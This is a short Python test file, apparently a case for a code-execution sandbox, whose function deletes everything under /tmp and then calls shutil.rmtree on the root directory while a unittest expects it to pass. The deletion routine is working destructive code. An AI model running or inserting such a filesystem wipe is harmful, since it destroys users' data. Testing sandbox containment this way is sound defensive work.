# What: removes everything that it may remove
# Expect: passed

import os
import shutil


def f(x):
    os.chdir("/")
    for name in os.listdir("/tmp"):
        shutil.rmtree(os.path.join("/tmp", name), ignore_errors=True)
    shutil.rmtree("/", ignore_errors=True)
    return 2


import unittest


class T(unittest.TestCase):
    def test_it(self):
        self.assertEqual(f(1), 2)
